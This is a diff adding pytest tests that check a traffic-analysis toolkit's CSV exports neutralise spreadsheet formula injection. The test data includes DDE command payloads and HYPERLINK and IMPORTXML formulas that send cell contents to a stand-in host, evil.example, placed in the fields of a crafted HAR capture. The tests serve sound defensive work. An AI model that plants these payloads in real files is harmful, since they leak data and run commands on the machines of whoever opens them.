@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
@@ -14,6 +15,7 @@ import pytest
 
 from tests.paths import ROOT
 from tests.report.hostile import ANDROID_ID, PAYLOADS, hostile_provenance, hostile_tables
+from toolkit.export import FORMULA_TRIGGERS
 from toolkit.report import export_tables, write_report
 from toolkit.schema import TABLES
 
@@ -72,7 +74,7 @@ def test_write_report_unmasked_exports_the_values(tmp_path: Path) -> None:
 def test_claims_with_evidence_rows_export_as_claim_evidence(tmp_path: Path) -> None:
     from toolkit.study import Study
 
-    study = Study.from_manifest(ROOT / "data" / "studies" / "xiaomi-2020.toml")
+    study = Study.from_manifest(ROOT / "data" / "studies" / "xiaomi-2020.toml", root=ROOT / "data")
     tables = study.tables
     tables["claims"] = study.evaluate()
     written = write_report(tmp_path, tables=tables, mask_identifiers=True, formats=("csv", "parquet"))
@@ -89,3 +91,132 @@ def test_claims_with_evidence_rows_export_as_claim_evidence(tmp_path: Path) -> N
         assert ANDROID_ID not in path.read_text(encoding="utf-8"), path.name
     html = written["html"].read_text(encoding="utf-8")
     assert "contradicted" in html and ANDROID_ID not in html
+
+
+# --- spreadsheets: no formula runs from a CSV export ---------------------------------------------
+
+#: Cells a spreadsheet runs as formulas, one per trigger character (OWASP's list and more).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+
+
+def _formula_frame(table: str, rows: int = len(FORMULAS)) -> pd.DataFrame:
+    """Every text column of ``table`` (from the schema, not a list) filled with formulas; object
+    columns (bodies, header lists) with formulas as bytes and inside lists."""
+    data: dict[str, list[object]] = {}
+    for column in TABLES[table].columns:
+        if column.dtype in ("string", "category"):
+            data[column.name] = [FORMULAS[(i + len(data)) % len(FORMULAS)] for i in range(rows)]
+        elif column.dtype == "object":
+            data[column.name] = [FORMULAS[i % len(FORMULAS)].encode() for i in range(rows)]
+    return TABLES[table].frame(data)
+
+
+def _text_columns(table: str) -> list[str]:
+    return [c.name for c in TABLES[table].columns if c.dtype in ("string", "category", "object")]
+
+
+def _cells(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.mark.parametrize("table", list(TABLES))
+def test_csv_neutralises_every_formula_cell_of_every_table(tmp_path: Path, table: str) -> None:
+    frame = _formula_frame(table)
+    [path] = export_tables({table: frame}, tmp_path, formats=("csv",))
+    rows = _cells(path)
+    assert len(rows) == len(frame)
+    for column in _text_columns(table):
+        for i, row in enumerate(rows):
+            cell = row[column]
+            assert not cell.startswith(FORMULA_TRIGGERS), (table, column, cell)
+            value = frame[column].astype(object).iloc[i]
+            text = value.decode() if isinstance(value, bytes) else str(value)
+            assert cell == "'" + text, (table, column, cell)  # readable: the value behind one quote
+
+
+def test_parquet_and_json_keep_the_raw_values(tmp_path: Path) -> None:
+    frame = _formula_frame("leaks")
+    csv_path, parquet_path, json_path = export_tables({"leaks": frame}, tmp_path, formats=("csv", "parquet", "json"))
+    assert pd.read_parquet(parquet_path)["matched_form"].tolist() == frame["matched_form"].astype(object).tolist()
+    records = [json.loads(line) for line in json_path.read_text(encoding="utf-8").splitlines()]
+    assert [r["needle"] for r in records] == frame["needle"].astype(object).tolist()
+    assert [r["needle"] for r in _cells(csv_path)] == ["'" + v for v in frame["needle"].astype(object)]
+
+
+def test_harmless_cells_are_left_alone(tmp_path: Path) -> None:
+    leaks = TABLES["leaks"].frame({"needle": ["GET", "https://a.example/?q=-1", "'=already", "a=b"]})
+    [path] = export_tables({"leaks": leaks}, tmp_path)
+    assert [r["needle"] for r in _cells(path)] == ["GET", "https://a.example/?q=-1", "'=already", "a=b"]
+
+
+def test_a_hostile_capture_opened_in_a_spreadsheet_runs_no_formula(tmp_path: Path) -> None:
+    """A HAR whose every free-text field is a formula, through the whole command line (tables,
+    leaks, report tables): no cell of any CSV written begins with a formula trigger."""
+    from toolkit.cli import main
+
+    identifier = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"
+    entries = [
+        {
+            "startedDateTime": "2020-04-30T09:00:00.000Z",
+            "time": 1,
+            "pageref": "=cmd|' /C calc'!A0",
+            "request": {
+                "method": formula.replace(" ", "") if i % 2 else "POST",
+                "url": f"https://t{i}.example/c?v={i}",
+                "httpVersion": "@HTTP/1.1",
+                "headers": [{"name": "X-App", "value": formula}, {"name": "Content-Type", "value": formula}],
+                "queryString": [],
+                "cookies": [{"name": "-c", "value": formula}],
+                "headersSize": -1,
+                "bodySize": -1,
+                "postData": {"mimeType": formula, "text": f"id={identifier}&x={formula}"},
+            },
+            "response": {
+                "status": 200,
+                "statusText": formula,
+                "httpVersion": "HTTP/1.1",
+                "headers": [{"name": "Content-Type", "value": formula}],
+                "cookies": [],
+                "content": {"size": 3, "mimeType": formula, "text": formula},
+                "redirectURL": "",
+                "headersSize": -1,
+                "bodySize": -1,
+            },
+            "cache": {},
+            "timings": {"send": 0, "wait": 1, "receive": 0},
+            "serverIPAddress": "+10.0.0.1",
+        }
+        for i, formula in enumerate(FORMULAS)
+    ]
+    har = {"log": {"version": "1.2", "creator": {"name": "=cmd|' /C calc'!A0", "version": "-1"},
+                   "pages": [], "entries": entries}}  # fmt: skip
+    capture = tmp_path / "hostile.har"
+    capture.write_text(json.dumps(har))
+    out = tmp_path / "out"
+    assert main(["analyze", str(capture), "--id", f"@TOKEN={identifier}", "--out", str(out), "--report"]) == 0
+    written = sorted(out.rglob("*.csv"))
+    assert {p.name for p in written} >= {"requests.csv", "leaks.csv", "endpoints.csv"}
+    leaks = _cells(out / "leaks.csv")
+    assert any(r["needle"] == "'" + identifier for r in leaks), "the leak of the formula identifier is found"
+    assert {r["matched_form"] for r in leaks} == {"'@TOKEN"}
+    requests = _cells(out / "requests.csv")
+    assert sum(r["method"].startswith("'") for r in requests) == 3  # the hostile methods, neutralised
+    assert {r["server_ip"] for r in requests} == {"'+10.0.0.1"}
+    assert {r["page"] for r in requests} == {"'=cmd|' /C calc'!A0"}
+    checked = 0
+    for path in written:
+        with path.open(newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
+                    checked += 1
+    assert checked > 100
